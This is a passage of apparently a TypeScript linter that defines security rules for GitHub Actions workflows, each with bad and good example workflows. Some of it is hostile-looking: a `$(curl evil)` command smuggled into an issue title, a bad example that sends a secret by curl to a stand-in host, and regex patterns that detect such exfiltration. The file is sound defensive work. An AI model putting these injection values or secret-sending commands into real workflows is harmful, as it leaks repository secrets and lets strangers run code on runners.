import { lookIn, mapsOf, scalar, truth, type MapValue, type Resource, type Value } from '../../server/rule/queries.ts';
import type { ResourceContext } from '../../server/rule/rule.ts';
import { families } from '../_families.ts';
import { mapOfResource, objectRule, textAt } from '../_kubernetes.ts';
import { computed, hostile, isFixedVariable, textParts } from './_workflow-expressions.ts';

const file = '.github/workflows/train.yml';
const workflow = (on: string, ...lines: readonly string[]): string => ['name: train', `on: ${on}`, 'permissions: {}', 'jobs:', '  train:', '    runs-on: ubuntu-latest', ...lines.map((line) => `    ${line}`), ''].join('\n');
const steps = (...lines: readonly string[]): readonly string[] => ['steps:', ...lines.map((line) => `  ${line}`)];
const checkout = '- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683';

interface Script {
  readonly value: Value;
  readonly expression: string;
  readonly at: Value;
}

/** Expressions in what a step runs, each with its own place. */
function expressionsOf(step: Resource, context: ResourceContext): readonly Script[] {
  const map = mapOfResource(step);
  const uses = textAt(step, 'uses') ?? '';
  const bodies = [...lookIn(map, 'run').values, ...(uses === '' ? [] : ['script', 'inlineScript', 'inline-script', 'run', 'cmd', 'command', 'code'].flatMap((name) => lookIn(map, `with.${name}`).values))];
  return bodies.flatMap((value) => {
    if (value.kind !== 'string') return [];
    const { path, range } = value.origin;
    const text = context.sources.document(path)?.text.slice(range.start, range.end) ?? '';
    return [...text.matchAll(/\$\{\{((?:(?!\}\})[\s\S])*)\}\}/g)].map((match): Script => {
      const origin = { path, range: { start: range.start + match.index, end: range.start + match.index + match[0].length } };
      return { value, expression: match[1]!.trim(), at: { kind: 'string', value: match[0], origin, at: origin } };
    });
  });
}

/** The matrix of the job that a step belongs to, where it holds expressions. */
function dynamicMatrix(step: Resource, name: string, context: ResourceContext): boolean {
  const job = step.address.slice('github_step.'.length, step.address.lastIndexOf('#'));
  const own = (context.unit.byType.get('github_job') ?? []).find((one) => one.name === job);
  const strategy = own && lookIn(mapOfResource(own), 'strategy.matrix').values[0];
  if (!strategy) return false;
  if (strategy.kind !== 'map') return true;
  const texts = (value: Value): readonly string[] => (value.kind === 'string' ? [value.value] : value.kind === 'list' ? value.items.flatMap(texts) : value.kind === 'map' ? [...value.entries.values()].flatMap((entry) => texts(entry.value)) : []);
  const entries = [strategy.entries.get(name)?.value, strategy.entries.get('include')?.value].filter((value): value is Value => value !== undefined);
  return entries.some((value) => texts(value).some((text) => computed.test(text) || hostile.test(text) || /fromJSON/.test(text)));
}

function triggers(context: ResourceContext): readonly string[] {
  return (context.unit.byType.get('github_workflow') ?? []).flatMap((one) => {
    const on = one.attributes.get('on')?.value ?? one.attributes.get('true')?.value;
    if (on?.kind === 'string') return [on.value];
    return on?.kind === 'list' ? on.items.map((item) => String(scalar(item))) : on?.kind === 'map' ? [...on.entries.keys()] : [];
  });
}

/** True where nothing but a tag starts the workflow. */
function onlyTags(context: ResourceContext): boolean {
  return (context.unit.byType.get('github_workflow') ?? []).some((one) => {
    const push = lookIn(mapOfResource(one), 'on.push').values[0];
    return push?.kind === 'map' && push.entries.has('tags') && !push.entries.has('branches') && !push.entries.has('branches-ignore');
  });
}

const pinned = /@[0-9a-f]{40}$/;
/** Actions of which versions are known to be dangerous, with the first good one. Source: GitHub's advisory database. */
const vulnerable: readonly (readonly [action: RegExp, before: readonly number[], advisory: string])[] = [
  [/^tj-actions\/changed-files$/, [46], 'CVE-2025-30066'], [/^tj-actions\/verify-changed-files$/, [17], 'CVE-2023-52137'], [/^tj-actions\/branch-names$/, [7, 0, 7], 'CVE-2023-49291'], [/^reviewdog\/action-setup$/, [1, 3], 'CVE-2025-30154'],
  [/^actions\/download-artifact$/, [4, 1, 3], 'CVE-2024-42471'], [/^pypa\/gh-action-pypi-publish$/, [1, 13], 'CVE-2025-59046'], [/^gradle\/gradle-build-action$/, [2, 4, 2], 'CVE-2023-30853'], [/^rlespinasse\/github-slug-action$/, [4, 4, 1], 'CVE-2023-27581'], [/^atlassian\/gajira-(?:create|comment)$/, [2, 0, 2], 'CVE-2020-14188'],
  [/^hashicorp\/vault-action$/, [2, 2], 'CVE-2021-32074'], [/^azure\/setup-kubectl$/, [3], 'CVE-2023-23939'], [/^dawidd6\/action-download-artifact$/, [6], 'GHSA-5xr6-xhww-33m4'], [/^ultralytics\/actions$/, [0, 0, 3], 'GHSA-7x29-qqmq-v6qc'], [/^embano1\/wip$/, [2], 'CVE-2022-39326'], [/^juliangruber\/approve-pull-request-action$/, [2], 'an advisory'], [/^xt0rted\/pull-request-comment-branch$/, [3], 'an advisory'],
];

function older(version: string, bound: readonly number[]): boolean {
  const parts = version.replace(/^v/, '').split('.').map(Number);
  if (parts.some(Number.isNaN)) return false;
  for (let at = 0; at < bound.length; at++) {
    if (parts[at] === undefined) return false;
    if (parts[at] !== bound[at]) return parts[at]! < bound[at]!;
  }
  return false;
}

function imageOf(value: Value | undefined): Value | undefined {
  return value?.kind === 'map' ? value.entries.get('image')?.value : value;
}

const supply = families.supply;

export default [
  objectRule({
    id: 'dependencies/unpinned-action', title: 'Action that is not fixed to a commit', severity: 'low', types: ['github_step', 'github_job'], file, what: 'Reports actions and reusable workflows of others that are named by tag or branch.', why: 'A tag can be moved: who takes an action over runs code with the secrets of every workflow that uses it, as happened with tj-actions/changed-files.', references: supply.references, noFix: 'The commit of the tag has to be looked up.',
    check: (resource, tell) => {
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind === 'string' && /^\w[\w.-]*\/[\w.-]+/.test(uses.value) && !/^(?:actions|github)\//.test(uses.value) && !pinned.test(uses.value) && !uses.value.includes('${{')) tell(uses, `Action "${uses.value}" is not fixed to a commit.`);
    },
    bad: workflow('push', ...steps('- uses: acme/setup@v3', '        ^^^^^^^^^^^^^')), good: workflow('push', ...steps(checkout)),
  }),
  objectRule({
    id: 'dependencies/unpinned-official-action', title: 'Action of GitHub that is not fixed to a commit', severity: 'info', types: ['github_step'], file, what: 'Reports actions of GitHub itself that are named by tag.', why: supply.why, references: supply.references, noFix: 'The commit of the tag has to be looked up.',
    check: (resource, tell) => { const uses = resource.attributes.get('uses')?.value; if (uses?.kind === 'string' && /^(?:actions|github)\/.*@/.test(uses.value) && !pinned.test(uses.value)) tell(uses, `Action "${uses.value}" is not fixed to a commit.`); },
    bad: workflow('push', ...steps('- uses: actions/checkout@v4', '        ^^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps(checkout)),
  }),
  objectRule({
    id: 'dependencies/action-from-branch', title: 'Action from a branch', severity: 'low', types: ['github_step', 'github_job'], file, what: 'Reports actions that are named by branch, or without any version.', why: supply.why, references: supply.references, noFix: 'The commit has to be looked up.',
    check: (resource, tell) => { const uses = resource.attributes.get('uses')?.value; if (uses?.kind === 'string' && /^\w[\w.-]*\/[\w./-]+(?:@(?:main|master|develop|dev|trunk|head|latest))?$/i.test(uses.value)) tell(uses, `Action "${uses.value}" is whatever its branch holds.`); },
    bad: workflow('push', ...steps('- uses: acme/setup@main', '        ^^^^^^^^^^^^^^^')), good: workflow('push', ...steps(checkout)),
  }),
  objectRule({
    id: 'dependencies/action-commit-without-version', title: 'Commit of an action without its version', severity: 'info', confidence: 'low', types: ['github_step'], file, what: 'Reports actions that are fixed to a commit with no comment that names the release, so that nobody sees whether the commit belongs to one.', why: 'A commit of a fork can be reached through the repository it was forked from; a version beside it can be checked.', references: supply.references,
    check: (resource, tell, context) => {
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind !== 'string' || !pinned.test(uses.value)) return;
      const text = context.sources.document(uses.at.path)?.text ?? '';
      const line = text.slice(uses.at.range.end, (text.indexOf('\n', uses.at.range.end) + 1 || text.length + 1) - 1);
      if (!/#\s*\S*v?\d/.test(line)) tell(uses, `The commit of "${uses.value.split('@')[0]}" has no version beside it.`);
    },
    bad: workflow('push', ...steps(checkout, `        ${'^'.repeat(checkout.length - 8)}`)), good: workflow('push', ...steps(`${checkout} # v4.2.2`)),
  }),
  objectRule({
    id: 'dependencies/vulnerable-action', title: 'Action with a known vulnerability', severity: 'high', types: ['github_step'], file, what: 'Reports versions of actions that have an advisory.', why: 'The advisory tells everybody how to misuse it.', references: ['CWE-1395', 'SI-2'],
    check: (resource, tell, context) => {
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind !== 'string') return;
      const [action, version] = uses.value.split('@');
      const text = context.sources.document(uses.at.path)?.text ?? '';
      const comment = /^["']?\s*#\s*(v?\d[\d.]*)/.exec(text.slice(uses.at.range.end, uses.at.range.end + 60))?.[1];
      const known = vulnerable.find(([pattern]) => pattern.test(action!.toLowerCase()));
      const stated = pinned.test(uses.value) ? comment : version;
      if (known && stated && older(stated, known[1])) tell(uses, `Action "${action}" ${stated} has a known vulnerability (${known[2]}).`);
    },
    bad: workflow('push', ...steps('- uses: tj-actions/changed-files@v45', '        ^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps(checkout)),
  }),
  objectRule({
    id: 'dependencies/unpinned-workflow-image', title: 'Image of a job without a digest', severity: 'low', types: ['github_job', 'github_step'], file, what: 'Reports images of jobs, services and steps that are not named by digest.', why: supply.why, references: supply.references, noFix: 'The digest has to be looked up.',
    check: (resource, tell) => {
      const map = mapOfResource(resource);
      const images = [imageOf(map.entries.get('container')?.value), ...lookIn(map, 'services').values.flatMap(mapsOf).flatMap((one) => [...one.entries.values()]).map((entry) => imageOf(entry.value))];
      for (const image of images) {
        if (image?.kind !== 'string' || image.value.includes('@sha256:') || image.value.trim() === '') continue;
        const dynamic = /^\$\{\{\s*matrix\.([\w-]+)\s*\}\}$/.exec(image.value)?.[1];
        if (dynamic === undefined) {
          if (!image.value.includes('${{')) tell(image, `Image "${image.value}" of "${resource.name}" is not named by digest.`);
          continue;
        }
        const values = ['strategy.matrix', 'strategy.matrix.include'].flatMap((path) => lookIn(map, `${path}.${dynamic}`).values).flatMap((value) => (value.kind === 'list' ? value.items : [value]));
        if (values.some((value) => value.kind === 'string' && !value.value.includes('@sha256:') && !value.value.includes('${{'))) tell(image, `An image of "${resource.name}" is not named by digest.`);
      }
      const uses = map.entries.get('uses')?.value;
      if (uses?.kind === 'string' && uses.value.startsWith('docker://') && !uses.value.includes('@sha256:')) tell(uses, `Image "${uses.value.slice(9)}" is not named by digest.`);
    },
    bad: workflow('push', 'container: python:3.12', '           ^^^^^^^^^^^', ...steps('- run: make')), good: workflow('push', 'container: python@sha256:0', ...steps('- run: make')),
  }),
  objectRule({
    id: 'input-validation/workflow-injection', title: 'Text of strangers in a script', severity: 'high', types: ['github_step'], file, what: 'Reports expressions with text that anybody can write (titles, bodies, branch names, commit messages) in `run` and in scripts.', why: 'The text is pasted into the script before it runs: a title such as `$(curl evil)` runs on the runner, with its token and secrets.', references: ['CWE-94', 'CWE-78', 'SI-10'], noFix: 'The value has to be handed over in `env` and read as a variable.',
    check: (resource, tell, context) => { for (const one of expressionsOf(resource, context)) if (textParts(one.expression).some((part) => hostile.test(part))) tell(one.at, `Text that strangers write (${one.expression.slice(0, 60)}) becomes part of the script of "${resource.name}".`); },
    bad: workflow('issues', ...steps('- run: echo "${{ github.event.issue.title }}"', '             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('issues', ...steps('- run: echo "$TITLE"', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
  }),
  objectRule({
    id: 'input-validation/workflow-expression-in-script', title: 'Computed value in a script', severity: 'low', confidence: 'medium', types: ['github_step'], file, what: 'Reports expressions in scripts whose value an input, an earlier step or the event decides.', why: 'The value is pasted into the script before it runs; as a variable in `env` it would stay data.', references: ['CWE-94', 'SI-10'], noFix: 'The value has to be handed over in `env` and read as a variable.',
    check: (resource, tell, context) => {
      for (const one of expressionsOf(resource, context)) {
        const parts = textParts(one.expression);
        if (parts.some((part) => hostile.test(part))) continue;
        const decided = (part: string): boolean => {
          const matrix = /\bmatrix\.([\w-]+)/.exec(part)?.[1];
          const rest = part.replace(/\bmatrix\.[\w.-]+/g, '').replace(/\benv\.([\w-]+)/g, (all, name: string) => (isFixedVariable(resource, name, context) ? '' : all));
          return computed.test(rest) || (matrix !== undefined && dynamicMatrix(resource, matrix, context));
        };
        if (parts.some(decided)) tell(one.at, `A computed value (${one.expression.slice(0, 60)}) becomes part of the script of "${resource.name}".`);
      }
    },
    bad: workflow('workflow_dispatch', ...steps('- run: make ${{ inputs.target }}', '            ^^^^^^^^^^^^^^^^^^^^')), good: workflow('workflow_dispatch', ...steps('- run: make "$TARGET"', '  env:', '    TARGET: ${{ inputs.target }}')),
  }),
  objectRule({
    id: 'input-validation/untrusted-checkout', title: 'Code of strangers with the rights of the repository', severity: 'high', confidence: 'medium', types: ['github_step'], file, what: 'Reports workflows on `pull_request_target` or `workflow_run` that check out the head of the pull request.', why: 'Such workflows run with secrets and a token that writes; the code of a stranger then has both.', references: ['CWE-829', 'AC-6', 'SI-7'],
    check: (resource, tell, context) => {
      const on = triggers(context);
      if (!on.includes('pull_request_target') && !on.includes('workflow_run') && !on.includes('issue_comment')) return;
      if (!/^actions\/checkout@/.test(textAt(resource, 'uses') ?? '')) return;
      for (const path of ['with.ref', 'with.repository']) for (const value of lookIn(mapOfResource(resource), path).values) if (value.kind === 'string' && /head\.(?:sha|ref|repo)|head_ref|merge_commit_sha|head_(?:sha|branch)|refs\/pull/.test(value.value)) tell(value, `"${resource.name}" checks out code of the pull request in a workflow that has secrets.`);
    },
    bad: workflow('pull_request_target', ...steps(checkout, '  with:', '    ref: ${{ github.event.pull_request.head.sha }}', '         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('pull_request', ...steps(checkout, '  with:', '    ref: ${{ github.event.pull_request.head.sha }}')),
  }),
  objectRule({
    id: 'input-validation/workflow-environment-write', title: 'Environment written in a workflow with secrets', severity: 'medium', confidence: 'medium', types: ['github_step'], file, what: 'Reports writing to GITHUB_ENV or GITHUB_PATH in workflows that strangers can start with the rights of the repository.', why: 'What is written becomes the environment of later steps: `LD_PRELOAD` or `NODE_OPTIONS` run code there.', references: ['CWE-94', 'CWE-427', 'SI-10'],
    check: (resource, tell, context) => {
      const on = triggers(context);
      const run = resource.attributes.get('run')?.value;
      if ((on.includes('pull_request_target') || on.includes('workflow_run')) && run?.kind === 'string' && />>\s*"?\$\{?GITHUB_(?:ENV|PATH)/.test(run.value)) tell(run, `"${resource.name}" writes the environment of later steps.`);
    },
    bad: workflow('pull_request_target', ...steps('- run: echo "V=$(cat v)" >> $GITHUB_ENV', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps('- run: echo "V=$(cat v)" >> $GITHUB_ENV')),
  }),
  objectRule({
    id: 'input-validation/unsecure-commands', title: 'Old workflow commands switched on', severity: 'medium', types: ['github_workflow', 'github_job', 'github_step'], file, what: 'Reports ACTIONS_ALLOW_UNSECURE_COMMANDS.', why: 'Every line that a step prints can then set variables of later steps.', references: ['CWE-94', 'CM-7'],
    check: (resource, tell) => { for (const value of lookIn(mapOfResource(resource), 'env.ACTIONS_ALLOW_UNSECURE_COMMANDS').values) if (truth(value) === true) tell(value, `"${resource.name}" lets what is printed set variables.`); },
    bad: workflow('push', 'env:', '  ACTIONS_ALLOW_UNSECURE_COMMANDS: true', '                                   ^^^^', ...steps('- run: make')), good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'input-validation/dangerous-trigger', title: 'Workflow that strangers start with secrets', severity: 'low', confidence: 'medium', types: ['github_workflow'], file, what: 'Reports the triggers `pull_request_target` and `workflow_run`.', why: 'They run with secrets on what a stranger sent; one step that trusts it is enough.', references: ['CWE-829', 'AC-6'], whenNotToUse: 'For workflows that only label or comment.',
    check: (resource, tell) => {
      const on = resource.attributes.get('on') ?? resource.attributes.get('true');
      const values: readonly Value[] = on?.value.kind === 'string' ? [on.value] : on?.value.kind === 'list' ? on.value.items : on?.value.kind === 'map' ? [...on.value.entries.values()].map((entry): Value => ({ kind: 'string', value: entry.key, origin: entry.keyOrigin, at: entry.keyOrigin })) : [];
      for (const value of values) if (value.kind === 'string' && /^(?:pull_request_target|workflow_run)$/.test(value.value)) tell(value, `Workflow "${resource.name}" runs with secrets on ${value.value}.`);
    },
    bad: `name: train\non: pull_request_target\n    ^^^^^^^^^^^^^^^^^^^\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n`, good: workflow('pull_request', ...steps('- run: make')),
  }),
  objectRule({
    id: 'iam/workflow-write-all', title: 'Workflow with all rights', severity: 'medium', types: ['github_workflow', 'github_job'], file, what: 'Reports `permissions: write-all`.', why: families.privilege.why, references: families.privilege.references,
    check: (resource, tell) => { for (const value of lookIn(mapOfResource(resource), 'permissions').values) if (scalar(value) === 'write-all') tell(value, `"${resource.name}" gets all rights on the repository.`); },
    bad: 'name: train\non: push\npermissions: write-all\n             ^^^^^^^^^\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n', good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'iam/workflow-write-permission', title: 'Workflow that grants writing to all its jobs', severity: 'info', confidence: 'medium', types: ['github_workflow'], file, what: 'Reports rights to write that stand at the top of a workflow with several jobs.', why: families.privilege.why, references: families.privilege.references,
    check: (resource, tell, context) => {
      if ((context.unit.byType.get('github_job') ?? []).length < 2) return;
      for (const map of lookIn(mapOfResource(resource), 'permissions').values.flatMap(mapsOf)) for (const entry of map.entries.values()) if (scalar(entry.value) === 'write') tell(entry.value, `All jobs of "${resource.name}" may write ${entry.key}.`);
    },
    bad: 'name: train\non: push\npermissions:\n  contents: write\n            ^^^^^\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n', good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'iam/workflow-permissions-unset', title: 'Workflow with the default rights', severity: 'info', confidence: 'medium', types: ['github_job'], file, what: 'Reports jobs for which neither they nor their workflow set `permissions`.', why: 'The default may be to write everything.', references: families.privilege.references,
    check: (resource, tell, context) => {
      const top = (context.unit.byType.get('github_workflow') ?? [])[0];
      if (!resource.attributes.has('permissions') && top && !top.attributes.has('permissions') && !resource.attributes.has('uses')) tell(undefined, `Job "${resource.name}" gets the default rights on the repository.`);
    },
    bad: 'name: train\non: push\njobs:\n  a:\n  ^\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n', good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'secrets/secret-printed-in-workflow', title: 'Secret in the command of a step', severity: 'medium', types: ['github_step'], file, what: 'Reports secrets that are pasted into a script.', why: 'The secret stands in the script, in lists of processes, and in the log as soon as it is changed a little.', references: ['CWE-532', 'IA-5'],
    check: (resource, tell, context) => { for (const one of expressionsOf(resource, context)) if (/\bsecrets\.(?!GITHUB_TOKEN\b)\w+/.test(one.expression)) tell(one.at, `A secret becomes part of the script of "${resource.name}".`); },
    bad: workflow('push', ...steps('- run: deploy --key ${{ secrets.KEY }}', '                    ^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps('- run: deploy', '  env:', '    KEY: ${{ secrets.KEY }}')),
  }),
  objectRule({
    id: 'secrets/secrets-outside-environment', title: 'Secret used without an environment', severity: 'info', confidence: 'low', types: ['github_job'], file, what: 'Reports jobs that use secrets but belong to no deployment environment, which could ask for approval.', why: 'Secrets of the repository are open to every workflow on every branch.', references: ['AC-6', 'IA-5'],
    check: (resource, tell, context) => {
      if (resource.attributes.has('environment') || resource.attributes.has('uses')) return;
      const { path, range } = resource.origin;
      const text = context.sources.document(path)?.text.slice(range.start, range.end) ?? '';
      const match = /\$\{\{\s*secrets\.(?!GITHUB_TOKEN\b)\w+\s*\}\}/.exec(text);
      if (!match) return;
      const origin = { path, range: { start: range.start + match.index, end: range.start + match.index + match[0].length } };
      tell({ kind: 'string', value: match[0], origin, at: origin }, `Job "${resource.name}" uses a secret but belongs to no environment.`);
    },
    bad: workflow('push', ...steps('- run: deploy', '  env:', '    KEY: ${{ secrets.KEY }}', '         ^^^^^^^^^^^^^^^^^^')), good: workflow('push', 'environment: production', ...steps('- run: deploy', '  env:', '    KEY: ${{ secrets.KEY }}')),
  }),
  objectRule({
    id: 'secrets/secrets-inherited', title: 'All secrets handed over', severity: 'low', types: ['github_job', 'github_step', 'github_workflow'], file, what: 'Reports `secrets: inherit` and `toJSON(secrets)`.', why: 'Only the secrets that are needed should be there to be taken.', references: ['AC-6', 'IA-5'],
    check: (resource, tell) => {
      const own = resource.attributes.get('secrets')?.value;
      if (own?.kind === 'string' && own.value === 'inherit') tell(own, `"${resource.name}" hands all secrets over.`);
      for (const map of lookIn(mapOfResource(resource), 'env').values.flatMap(mapsOf)) for (const { value } of map.entries.values()) if (value.kind === 'string' && /toJSON\(\s*secrets\s*\)|secrets\[/i.test(value.value)) tell(value, `"${resource.name}" gets all secrets.`);
    },
    bad: 'name: train\non: push\npermissions: {}\njobs:\n  a:\n    uses: acme/flows/.github/workflows/a.yml@11bd71901bbe5b1630ceea73d27597364c9af683\n    secrets: inherit\n             ^^^^^^^\n', good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'secrets/checkout-keeps-credentials', title: 'Checkout that leaves its token behind', severity: 'info', confidence: 'medium', types: ['github_step'], file, what: 'Reports `actions/checkout` without `persist-credentials: false`.', why: 'The token stays in `.git/config`, where later steps, and artefacts that hold the folder, take it along.', references: ['CWE-522', 'IA-5'],
    check: (resource, tell) => {
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind !== 'string' || !/^actions\/checkout@/.test(uses.value)) return;
      const found = lookIn(mapOfResource(resource), 'with.persist-credentials');
      if (found.values.length > 0 ? found.values.some((value) => truth(value) === true) : !found.unknown) tell(uses, `"${resource.name}" leaves its token in the working folder.`);
    },
    bad: workflow('push', ...steps(checkout, `        ${'^'.repeat(checkout.length - 8)}`)), good: workflow('push', ...steps(checkout, '  with:', '    persist-credentials: false')),
  }),
  objectRule({
    id: 'secrets/secret-sent-with-curl', title: 'Secret sent away by a step', severity: 'low', confidence: 'low', types: ['github_step'], file, what: 'Reports scripts that use curl or wget with a secret in the address or body.', why: 'Addresses end up in the logs of proxies and servers.', references: ['CWE-522', 'IA-5'],
    check: (resource, tell) => { const run = resource.attributes.get('run')?.value; if (run?.kind === 'string' && /\b(?:curl|wget)\b[^\n]*\$\{\{\s*secrets\./.test(run.value)) tell(run, `"${resource.name}" sends a secret with a request.`); },
    bad: workflow('push', ...steps('- run: curl https://x.example.com/?k=${{ secrets.KEY }}', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')), good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'workload/self-hosted-runner', title: 'Job on a machine of one\'s own', severity: 'info', confidence: 'medium', types: ['github_job'], file, what: 'Reports jobs on self-hosted runners.', why: 'What a job leaves on the machine meets the next one; in a public repository strangers can start jobs there.', references: ['AC-6', 'SC-39'], whenNotToUse: 'For runners that are made anew for every job.',
    check: (resource, tell) => {
      const direct = lookIn(mapOfResource(resource), 'runs-on').values.flatMap((value) => (value.kind === 'list' ? value.items : value.kind === 'map' ? [value.entries.get('labels')?.value ?? value, value.entries.get('group')?.value ?? value] : [value])).flatMap((value) => (value.kind === 'list' ? value.items : [value]));
      const named = direct.flatMap((value) => (value.kind === 'string' ? [/^\$\{\{\s*matrix\.([\w-]+)/.exec(value.value)?.[1] ?? []].flat() : []));
      const strategy = lookIn(mapOfResource(resource), 'strategy.matrix').values[0];
      const excluded = lookIn(mapOfResource(resource), 'strategy.matrix.exclude').values.flatMap((value) => (value.kind === 'list' ? value.items : [value])).flatMap(mapsOf);
      const expanded: Value[] = strategy?.kind === 'map' ? named.flatMap((name) => [...lookIn(strategy, name).values, ...lookIn(strategy, `include.${name}`).values].flatMap((value) => (value.kind === 'list' ? value.items.flatMap((item) => (item.kind === 'list' ? item.items : [item])) : [value])).filter((value) => !excluded.some((map: MapValue) => scalar(map.entries.get(name)?.value) === scalar(value)))) : [];
      const hit = [...direct, ...expanded].find((value) => value.kind === 'string' && value.value === 'self-hosted') ?? direct.find((value, index) => index > 0 && value.kind === 'map');
      const group = lookIn(mapOfResource(resource), 'runs-on.group').values[0];
      if (!hit && group && lookIn(mapOfResource(resource), 'runs-on.labels').values.length === 0) tell(group, `Job "${resource.name}" runs on a group of machines that may be one's own.`);
      if (hit) tell(direct[0]?.kind === 'string' && expanded.includes(hit) ? direct[0] : hit, `Job "${resource.name}" runs on a machine of its own.`);
    },
    bad: 'name: train\non: push\npermissions: {}\njobs:\n  a:\n    runs-on: self-hosted\n             ^^^^^^^^^^^\n    steps:\n      - run: make\n', good: workflow('push', ...steps('- run: make')),
  }),
  objectRule({
    id: 'input-validation/untrusted-artifact', title: 'Artefact of strangers in a workflow with secrets', severity: 'medium', confidence: 'medium', types: ['github_step'], file, what: 'Reports workflows on `workflow_run` that download artefacts of the run before into their working folder.', why: 'The run before may have been started by a pull request of a stranger, who then decides what lies in the folder of a workflow that has secrets.', references: ['CWE-829', 'SI-7', 'SI-10'], noFix: 'The artefact has to go into a folder of its own, and what it holds has to be checked.', whenNotToUse: 'Where only runs of the default branch are waited for.',
    check: (resource, tell, context) => {
      if (!triggers(context).includes('workflow_run')) return;
      const uses = resource.attributes.get('uses')?.value;
      const run = resource.attributes.get('run')?.value;
      const path = textAt(resource, 'with.path') ?? '';
      if (uses?.kind === 'string' && /^(?:actions\/download-artifact|dawidd6\/action-download-artifact)@/.test(uses.value) && !/runner\.temp|^\/tmp\b/.test(path)) tell(uses, `"${resource.name}" puts files that strangers may have made beside those of the workflow.`);
      else if (run?.kind === 'string' && /\bgh\s+run\s+download\b(?![^\n]*(?:-D|--dir)[ =]\S*(?:RUNNER_TEMP|\/tmp|runner\.temp))/.test(run.value)) tell(run, `"${resource.name}" puts files that strangers may have made beside those of the workflow.`);
    },
    bad: workflow('workflow_run', ...steps('- uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16', `        ${'^'.repeat('actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16'.length)}`)), good: workflow('workflow_run', ...steps('- uses: actions/download-artifact@fa0a91b85d4f404e444e00e005971372dc801d16', '  with:', '    path: ${{ runner.temp }}/results')),
  }),
  objectRule({
    id: 'dependencies/cache-in-release', title: 'Release that is built from a cache', severity: 'low', confidence: 'medium', types: ['github_step'], file, what: 'Reports caches in workflows that a release or a tag starts.', why: 'Every workflow of the branch can write the cache; what it put there goes into what is published.', references: ['CWE-829', 'SI-7', 'AISF-ML-02'], noFix: 'The cache has to go, or the build has to be another workflow.', whenNotToUse: 'Where the job publishes nothing.',
    check: (resource, tell, context) => {
      if (!triggers(context).includes('release') && !onlyTags(context)) return;
      const uses = resource.attributes.get('uses')?.value;
      if (uses?.kind !== 'string') return;
      const cache = lookIn(mapOfResource(resource), 'with.cache').values[0] ?? lookIn(mapOfResource(resource), 'with.enable-cache').values[0];
      if (/^actions\/cache@/.test(uses.value) || /^Swatinem\/rust-cache@/i.test(uses.value)) tell(uses, `"${resource.name}" restores a cache in a workflow that publishes.`);
      else if (/^(?:actions\/setup-|astral-sh\/setup-uv@|pnpm\/)/.test(uses.value) && cache && cache.kind !== 'unknown' && truth(cache) !== false && scalar(cache) !== '') tell(cache, `"${resource.name}" restores a cache in a workflow that publishes.`);
    },
    bad: workflow('release', ...steps('- uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a', '  with:', '    cache: npm', '           ^^^')), good: workflow('push', ...steps('- uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a', '  with:', '    cache: npm')),
  }),
  objectRule({
    id: 'secrets/workflow-registry-password', title: 'Password of a registry in a workflow', severity: 'high', types: ['github_job'], file, what: 'Reports passwords of containers and services that stand in a workflow.', why: families.secret.why, references: families.secret.references, noFix: 'The password has to become a secret of the repository first.', whenNotToUse: 'For passwords that open nothing.',
    check: (resource, tell) => {
      const map = mapOfResource(resource);
      for (const value of [...lookIn(map, 'container.credentials.password').values, ...lookIn(map, 'services.*.credentials.password').values]) if (value.kind === 'string' && value.value !== '' && !value.value.includes('${{')) tell(value, `The password of a registry stands in job "${resource.name}".`);
    },
    bad: workflow('push', 'container:', '  image: ghcr.io/acme/train', '  credentials:', '    username: ada', `    password: ${['plain', 'words', 'here'].join('-')}`, `              ${'^'.repeat('plain-words-here'.length)}`, ...steps('- run: make')), good: workflow('push', 'container:', '  image: ghcr.io/acme/train', '  credentials:', '    username: ada', '    password: ${{ secrets.REGISTRY }}', ...steps('- run: make')),
  }),
  objectRule({
    id: 'input-validation/condition-always-true', title: 'Condition that always holds', severity: 'medium', types: ['github_step', 'github_job'], file, what: 'Reports conditions in which text stands around an expression, such as a line end after `}}`.', why: 'The whole is then a text, and a text that is not empty is true: the check that it looks like never fails.', references: ['CWE-863', 'AC-3'],
    whenNotToUse: 'Never.',
    check: (resource, tell, context) => {
      const own = resource.attributes.get('if')?.value;
      if (own?.kind !== 'string' || !own.value.includes('${{')) return;
      const whole = /^\s*\$\{\{[\s\S]*\}\}$/.test(own.value) && own.value.split('${{').length === 2;
      // A block text keeps its last line end unless it says `-`.
      const source = context.sources.document(own.origin.path)?.text.slice(own.origin.range.start, own.origin.range.end) ?? '';
      if (!whole || (/^[|>][+\d]*\s*\n/.test(source) && own.value.endsWith('\n'))) tell(own, `The condition of "${resource.name}" is a text and always holds.`);
    },
    bad: workflow('push', "if: ${{ github.actor }} == 'ada'", `    ${'^'.repeat("${{ github.actor }} == 'ada'".length)}`, ...steps('- run: make')), good: workflow('push', "if: ${{ github.actor == 'ada' }}", ...steps('- run: make')),
  }),
  objectRule({
